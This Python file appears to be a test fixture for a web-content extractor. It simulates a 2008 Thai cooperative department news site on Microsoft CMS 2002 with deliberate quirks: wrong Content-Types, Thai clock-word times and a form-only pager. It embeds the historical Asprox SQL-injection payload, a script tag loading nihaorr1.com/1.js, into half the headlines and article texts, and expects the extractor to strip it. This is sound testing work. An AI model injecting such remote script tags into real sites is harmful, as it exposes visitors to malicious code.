"""Blind-57 red-team site (part B): a department's news channel (กรมส่งเสริมสหกรณ์-like,
2007-2008) on **Microsoft Content Management Server 2002 SP2 with ASP.NET 1.1 templates on
IIS 6**, bytes in windows-874. Built blind (no crawler, pipeline, bench or fixture read).

Looked up with the search tool: nothing in the corpora showed MCMS 2002 template output, so its
markup is from memory of MCMS sites and documentation: postings under channel paths
(`/th/News/pr51_012.htm`), the `NRMODE=Published&NRNODEGUID=%7b…%7d&NRORIGINALURL=…&NRCACHEHINT=`
query that MCMS appends to the ASP.NET form's action, resources under `/NR/rdonlyres/{GUID}/0/`,
ASP.NET 1.1's `__aspnetForm` / `__VIEWSTATE`, `<globalization responseEncoding="windows-874">`;
the 2008 mass SQL injection ("Asprox", `<script src=http://www.nihaorr1.com/1.js></script>`
appended to every text column of the database) is from the incident reports of that year.
No one's code or text was copied.

What it imitates (traps marked NEW were not tried by earlier rounds):
- same `<title>` prefix everywhere ("กรมส่งเสริมสหกรณ์ :: ข่าวประชาสัมพันธ์ :: <headline>"),
  table layout, `td.newsHead` headline, Thai digits in dates, counters and the list;
- **NEW: the article pages answer with a wrong Content-Type: `application/octet-stream` (one
  in four), `text/plain; charset=windows-874` (one in four), no Content-Type header at all (one
  in four); only one in four answers `text/html`**; all are HTML whose `<meta>` says `tis-620`
  while the bytes are windows-874 (“ ” … from the texts);
- **NEW: the 2008 mass SQL injection: half the items' headline and text fields end with the
  injected `<script src=http://www.nihaorr1.com/1.js></script>`; in `<title>` it shows as text,
  in the headline cell, the list's links and the text it is a script element**;
- **NEW: the publication time in Thai clock words beside the date: "ลงวันที่ ๑๒ มีนาคม ๒๕๕๑
  เวลา บ่ายสามโมงครึ่ง" (15:30), "เวลา ๙ โมงเช้า", "สี่โมงเช้า" (10:00, the six-hour clock),
  "เที่ยงตรง", "บ่ายโมง", "๔ โมงเย็น", "หนึ่งทุ่ม" (19:00); one item in four has no time**;
- **NEW: the list's only pager is a GET form "ไปหน้า [ ] ไป จากทั้งหมด ๓ หน้า" (a text box
  named `page`), no page links at all**;
- "จำนวนผู้อ่าน : ๑,๒๓๔ ครั้ง"; sources "ที่มา :" / "ข่าว :" / "เรียบเรียง :" (one in six
  none); "พิมพ์หน้านี้ | ส่งให้เพื่อน | กลับหน้ารวมข่าว"; "ข่าวอื่น ๆ" (titles, Thai-digit dates);
  marquee; site counter "ผู้เยี่ยมชม"; MCMS console comment;
- deleted item (linked from page 2): `/th/News/pr51_007.htm`, an expired posting: **200** with
  the template, an empty headline and "ขออภัย ไม่พบเอกสารที่ท่านต้องการ หรือเอกสารหมดอายุการ
  เผยแพร่แล้ว".
"""

from __future__ import annotations

import datetime as dt
import html
import re

from ._common import MONTHS, TZ, BaseSite, esc, expected_record, main, make_articles, qs1
from ._common import thai_digits as td
from .b26a_common import drop_corpus_signoffs
from .b32b_common import drop_contact_tails

OFFICE = "กรมส่งเสริมสหกรณ์"
PER = 8
N = 23
DELETED = "/th/News/pr51_007.htm"
INJECT = "<script src=http://www.nihaorr1.com/1.js></script>"
GUID = "{7C1E2A55-3B9D-4F0E-8A61-2D4C5B7E9F10}"
SOURCES = [
    ("ที่มา", "กลุ่มประชาสัมพันธ์ สำนักงานเลขานุการกรม"),
    ("ข่าว", "สำนักงานสหกรณ์จังหวัดนครราชสีมา"),
    ("เรียบเรียง", "ฝ่ายประชาสัมพันธ์ กรมส่งเสริมสหกรณ์"),
    ("ที่มา", "สำนักพัฒนาและถ่ายทอดเทคโนโลยีการสหกรณ์"),
    ("ข่าว", "สำนักงานสหกรณ์จังหวัดเชียงใหม่"),
    None,
]
# (hour, minute, as the clerk wrote it)
CLOCK = [
    (15, 30, "บ่ายสามโมงครึ่ง"),
    (9, 0, "๙ โมงเช้า"),
    (10, 0, "สี่โมงเช้า"),
    (12, 0, "เที่ยงตรง"),
    (13, 0, "บ่ายโมง"),
    (16, 0, "๔ โมงเย็น"),
    (8, 30, "แปดโมงครึ่ง"),
    (14, 0, "บ่ายสองโมง"),
    (19, 0, "หนึ่งทุ่ม"),
    (11, 0, "สิบเอ็ดโมง"),
    (13, 30, "บ่ายโมงครึ่ง"),
]
CTYPES = [
    "application/octet-stream",
    "text/plain; charset=windows-874",
    None,
    "text/html; charset=windows-874",
]
OTHER = "ข่าวอื่น ๆ"
COUNTER = "ผู้เยี่ยมชม ๒,๔๑๗,๐๐๕ คน"
MARQUEE = "ยินดีต้อนรับสู่เว็บไซต์กรมส่งเสริมสหกรณ์ ... สหกรณ์เข้มแข็ง เกษตรกรพึ่งตนเองได้"
FOOTER = "เลขที่ ๑๒ ถนนกรุงเกษม แขวงบ้านพานถม เขตพระนคร กรุงเทพฯ ๑๐๒๐๐"
NOT_FOUND = "ขออภัย ไม่พบเอกสารที่ท่านต้องการ หรือเอกสารหมดอายุการเผยแพร่แล้ว"


def thai_date(d: dt.datetime) -> str:
    return td(f"{d.day} {MONTHS[d.month - 1]} {d.year + 543}")


def short_date(d: dt.datetime) -> str:
    return td(f"{d.day:02d}/{d.month:02d}/{str(d.year + 543)[-2:]}")


class McmsSqlInjectSite(BaseSite):
    key = "b57_mcms2002_aspnet11_sqlinject874"
    family = "generic"
    charset = "cp874"
    imitates = (
        "department news channel on Microsoft CMS 2002 + ASP.NET 1.1 (2007-2008), windows-874 "
        "bytes under a tis-620 meta: article pages served as application/octet-stream, "
        "text/plain or without Content-Type; the 2008 Asprox SQL-injection <script> appended to "
        "headlines and texts; times in Thai clock words ('เวลา บ่ายสามโมงครึ่ง'); a 'ไปหน้า [ ] ไป' "
        "GET form as the only pager; Thai digits"
    )
    listing_path = "/th/News/"

    def html_response(self, text, *, status=200, charset=None, content_type=None):
        # IIS 6 + ASP.NET 1.1 <globalization responseEncoding="windows-874">
        return status, {"Content-Type": "text/html; charset=windows-874"}, text.encode("cp874")

    def __init__(self):
        arts = make_articles(self.key, N, start=dt.datetime(2008, 6, 20, tzinfo=TZ), offset=26)
        drop_corpus_signoffs(arts)
        drop_contact_tails(arts)
        when = dt.datetime(2008, 6, 17, tzinfo=TZ)
        for i, a in enumerate(arts):
            h, m, word = CLOCK[i % len(CLOCK)]
            a.published = when.replace(hour=h, minute=m)
            when -= dt.timedelta(days=5 + (i * 3) % 7)
            a.time_printed = i % 4 != 3
            a.extra["clock"] = word
            a.id = 60 - i * 2 + (1 if i % 3 == 0 else 0)
            a.path = f"/th/News/pr{str(a.published.year + 543)[-2:]}_{a.id:03d}.htm"
            a.modified = None
            a.views = 27 + (i * 577 + 91) % 3900
            a.tags = []
            src = SOURCES[i % 6]
            a.source = src[1] if src else None
            a.extra["label"] = src[0] if src else None
            a.extra["inject"] = i % 2 == 0
            a.extra["ctype"] = CTYPES[i % 4]
        self.articles = arts
        self.by_path = {a.path: a for a in arts}
        self.pages = [arts[i : i + PER] for i in range(0, N, PER)]
        assert len(self.pages) == 3 and DELETED not in self.by_path, [a.path for a in arts]

    def listing_pages(self):
        return ["/th/News/", "/th/News/?page=2", "/th/News/?page=3"]

    def deleted_paths(self):
        return [DELETED]

    def robots(self):
        return "User-agent: *\nDisallow: /NR/exeres/\nDisallow: /MCMS/\n"

    # ------------------------------------------------------------------ shell
    def shell(self, title_text: str, inner: str, action: str) -> str:
        nr = (
            f"{action}?NRMODE=Published&amp;NRNODEGUID=%7b{GUID[1:-1]}%7d&amp;"
            f"NRORIGINALURL=%2fth%2fNews%2f{action.replace('.', '%2e')}&amp;NRCACHEHINT=Guest"
        )
        return f"""<!DOCTYPE HTML PUBLIC "-//W3C//DTD HTML 4.0 Transitional//EN">
<HTML>
<HEAD>
<title>{OFFICE} :: ข่าวประชาสัมพันธ์ :: {title_text}</title>
<meta http-equiv="Content-Type" content="text/html; charset=tis-620">
<meta name="GENERATOR" content="Microsoft Visual Studio .NET 7.1">
<meta name="CODE_LANGUAGE" content="C#">
<meta name="vs_defaultClientScript" content="JavaScript">
<LINK href="/th/Styles/cpd.css" type="text/css" rel="stylesheet">
<script language="javascript" src="/th/Scripts/menu.js"></script>
</HEAD>
<body bottomMargin="0" leftMargin="0" topMargin="0" rightMargin="0" bgcolor="#E8F0E0">
<form name="__aspnetForm" method="post" action="{nr}" id="__aspnetForm">
<input type="hidden" name="__VIEWSTATE" value="dDwtMTI3OTMzNDM4NDs7Pj4Ga3dN8p1yQz0R5o2bX9cLk3M=" />
<!-- MCMS Console placeholder: hidden for Guest -->
<table width="780" border="0" cellspacing="0" cellpadding="0" align="center" bgcolor="#FFFFFF">
<tr><td colspan="2"><img src="/NR/rdonlyres/{GUID}/0/banner_cpd.jpg" width="780" height="120" alt="{OFFICE}"></td></tr>
<tr><td colspan="2" bgcolor="#336633" height="22"><font color="#FFFFFF" size="2">&nbsp;
<a href="/th/" class="topmenu">หน้าแรก</a> | <a href="/th/About/" class="topmenu">เกี่ยวกับกรม</a> | <a href="/th/News/" class="topmenu">ข่าวประชาสัมพันธ์</a> | <a href="/th/Procurement/" class="topmenu">จัดซื้อจัดจ้าง</a> | <a href="/th/Contact/" class="topmenu">ติดต่อเรา</a></font></td></tr>
<tr><td colspan="2"><marquee scrollamount="2" onmouseover="this.stop()" onmouseout="this.start()"><font color="#006600" size="2">{MARQUEE}</font></marquee></td></tr>
<tr>
<td width="170" valign="top" bgcolor="#F4F8EC">
<table width="100%" cellpadding="3"><tr><td class="lefthead">เมนูหลัก</td></tr>
<tr><td><a href="/th/News/">&raquo; ข่าวประชาสัมพันธ์</a><br><a href="/th/Activity/">&raquo; ภาพกิจกรรม</a><br><a href="/th/Coop/">&raquo; ข้อมูลสหกรณ์</a><br><a href="/th/Download/">&raquo; ดาวน์โหลด</a><br><a href="/th/Webboard/">&raquo; กระดานข่าว</a></td></tr>
<tr><td class="lefthead">สถิติ</td></tr>
<tr><td align="center"><img src="/NR/rdonlyres/{GUID}/0/counter.gif" alt=""><br><font size="1">{COUNTER}</font><br><font size="1">เริ่มนับ ๑ ตุลาคม ๒๕๔๘</font></td></tr>
</table>
</td>
<td width="610" valign="top">
{inner}
</td></tr>
<tr><td colspan="2" bgcolor="#336633" align="center"><font color="#FFFFFF" size="1">{OFFICE} {FOOTER}<br>โทร. ๐-๒๖๒๘-๕๑๒๗ &nbsp; Best view 800 x 600 IE 6.0</font></td></tr>
</table>
</form>
</body>
</HTML>
"""

    def headline(self, a) -> str:
        return esc(a.title) + (INJECT if a.extra["inject"] else "")

    # ------------------------------------------------------------------ listing
    def render_list(self, k: int):
        rows = []
        items = list(self.pages[k])
        entries = [(a.path, self.headline(a), a.published, a.views) for a in items]
        if k == 1:
            entries.insert(
                3,
                (
                    DELETED,
                    "กรมส่งเสริมสหกรณ์เปิดรับสมัครสหกรณ์เข้าร่วมโครงการพัฒนาสินค้าสหกรณ์สู่มาตรฐาน",
                    dt.datetime(2008, 3, 1, 10, 0, tzinfo=TZ),
                    0,
                ),
            )
        for j, (path, title, d, views) in enumerate(entries):
            bg = "#FFFFFF" if j % 2 == 0 else "#F0F6E8"
            rows.append(
                f'<tr bgcolor="{bg}"><td align="center"><font size="2">{td(k * PER + j + 1)}</font></td>'
                f'<td><font size="2"><a href="{path}" class="newslink">{title}</a></font></td>'
                f'<td align="center"><font size="2">{short_date(d)}</font></td>'
                f'<td align="center"><font size="2">{td(views)}</font></td></tr>'
            )
        inner = f"""<table width="100%" cellpadding="4" cellspacing="0" border="0">
<tr><td class="pagehead"><img src="/NR/rdonlyres/{GUID}/0/icon_news.gif" align="absmiddle"> ข่าวประชาสัมพันธ์</td></tr>
<tr><td>
<table width="100%" cellpadding="3" cellspacing="1" border="0" bgcolor="#99CC99">
<tr bgcolor="#CCE5B8"><td width="40" align="center"><b>ลำดับ</b></td><td align="center"><b>หัวข้อข่าว</b></td><td width="70" align="center"><b>วันที่</b></td><td width="50" align="center"><b>ผู้อ่าน</b></td></tr>
{chr(10).join(rows)}
</table>
</td></tr>
</table>
</form>
<form method="get" action="/th/News/" name="frmPage" style="margin:0">
<table width="100%"><tr><td align="right"><font size="2">หน้า {td(k + 1)} &nbsp; ไปหน้า <input type="text" name="page" size="2" maxlength="3" value="{k + 1}"> <input type="submit" value="ไป"> จากทั้งหมด {td(len(self.pages))} หน้า</font></td></tr></table>
"""
        return self.html_response(self.shell("ข่าวประชาสัมพันธ์", inner, "default.htm"))

    # ------------------------------------------------------------------ article
    def others(self, a):
        i = self.articles.index(a)
        return [self.articles[(i + k) % N] for k in (1, 2, 3, 5, 8)]

    def render_article(self, a):
        paras = [esc(p) for p in a.paras]
        if a.extra["inject"]:
            paras[-1] += INJECT
        body = "\n".join(f"<p>&nbsp;&nbsp;&nbsp;&nbsp;&nbsp;{p}</p>" for p in paras)
        src = (
            f'<p align="right"><b>{esc(a.extra["label"])} : {esc(a.source)}</b></p>'
            if a.source
            else ""
        )
        date = f"ลงวันที่ : {thai_date(a.published)}"
        if a.time_printed:
            date += f" เวลา {a.extra['clock']}"
        other = "".join(
            f'<tr><td><font size="2">&raquo; <a href="{x.path}">{self.headline(x)}</a> <font color="#999999">({short_date(x.published)})</font></font></td></tr>'
            for x in self.others(a)
        )
        inner = f"""<table width="100%" cellpadding="6" cellspacing="0" border="0">
<tr><td class="pagehead"><img src="/NR/rdonlyres/{GUID}/0/icon_news.gif" align="absmiddle"> ข่าวประชาสัมพันธ์</td></tr>
<tr><td class="newsHead"><font size="3" color="#006600"><b>{self.headline(a)}</b></font></td></tr>
<tr><td><font size="2" color="#666666">{date} &nbsp;|&nbsp; จำนวนผู้อ่าน : {td(f"{a.views:,}")} ครั้ง</font></td></tr>
<tr><td class="newsBody">
<div align="center"><img src="/NR/rdonlyres/{GUID}/{a.id}/DSC0{a.id:03d}.jpg" width="400" border="0" alt=""></div>
{body}
{src}
</td></tr>
<tr><td align="right"><font size="2"><a href="javascript:window.print()">พิมพ์หน้านี้</a> | <a href="mailto:?subject=ข่าวประชาสัมพันธ์">ส่งให้เพื่อน</a> | <a href="/th/News/">กลับหน้ารวมข่าว</a></font></td></tr>
<tr><td class="lefthead">{OTHER}</td></tr>
<tr><td><table width="100%">{other}</table></td></tr>
</table>"""
        # the injected tag is text inside <title> (RCDATA), an element everywhere else
        doc = self.shell(self.headline(a), inner, a.path.rsplit("/", 1)[1])
        data = doc.encode("cp874")
        ctype = a.extra["ctype"]
        headers = {"Content-Type": ctype} if ctype else {}
        headers["X-Powered-By"] = "ASP.NET"
        return 200, headers, data

    def render_deleted(self):
        inner = f"""<table width="100%" cellpadding="6" cellspacing="0" border="0">
<tr><td class="pagehead">ข่าวประชาสัมพันธ์</td></tr>
<tr><td class="newsHead"><font size="3" color="#006600"><b></b></font></td></tr>
<tr><td class="newsBody"><p align="center"><font color="#CC0000">{NOT_FOUND}</font></p></td></tr>
<tr><td align="right"><font size="2"><a href="/th/News/">กลับหน้ารวมข่าว</a></font></td></tr>
</table>"""
        return self.html_response(self.shell("", inner, DELETED.rsplit("/", 1)[1]))

    # ------------------------------------------------------------------ routing
    def route(self, path, query, raw_query, base):
        if path in ("/", "/th", "/th/"):
            return 302, {"Location": f"{base}/th/News/"}, b""
        if path in ("/th/News", "/th/News/", "/th/News/default.htm"):
            raw = qs1(query, "page", "1").strip()
            k = int(raw) - 1 if raw.isdigit() and int(raw) >= 1 else 0
            return self.render_list(min(k, len(self.pages) - 1))
        if path == DELETED:
            return self.render_deleted()
        a = self.by_path.get(path)
        if a:
            return self.render_article(a)
        return None

    def page_text(self, a) -> str:
        body = self.route(a.path, {}, "", "http://127.0.0.1")[2].decode("cp874")
        body = re.sub(r"<(script|style)\b.*?</\1>", " ", body, flags=re.S | re.I)
        return " ".join(html.unescape(re.sub(r"<[^>]+>", " ", body)).replace("\xa0", " ").split())

    def expected(self):
        out = []
        for a in self.articles:
            date = f"ลงวันที่ : {thai_date(a.published)}"
            must_not = [
                "nihaorr1",
                "<script",
                date,
                f"เวลา {a.extra['clock']}",
                f"จำนวนผู้อ่าน : {td(f'{a.views:,}')} ครั้ง",
                "พิมพ์หน้านี้",
                "ส่งให้เพื่อน",
                "กลับหน้ารวมข่าว",
                OTHER,
                COUNTER,
                MARQUEE,
                FOOTER,
                "Best view 800 x 600",
                "เมนูหลัก",
            ]
            must_not += [x.title for x in self.others(a)]
            must_not += [f"({short_date(x.published)})" for x in self.others(a)]
            text = self.page_text(a)
            whole = "\n".join(a.paras)
            keep = [s for s in must_not if s in text and s not in whole]
            keep += [s for s in ("nihaorr1", "<script") if a.extra["inject"]]
            rec = expected_record(a, modified=False, tags=False, must_not=keep)
            for ph in rec["body_must"]:
                assert ph in text, (a.path, ph)
            out.append(rec)
        return out


SITE = McmsSqlInjectSite()

if __name__ == "__main__":
    main(SITE)
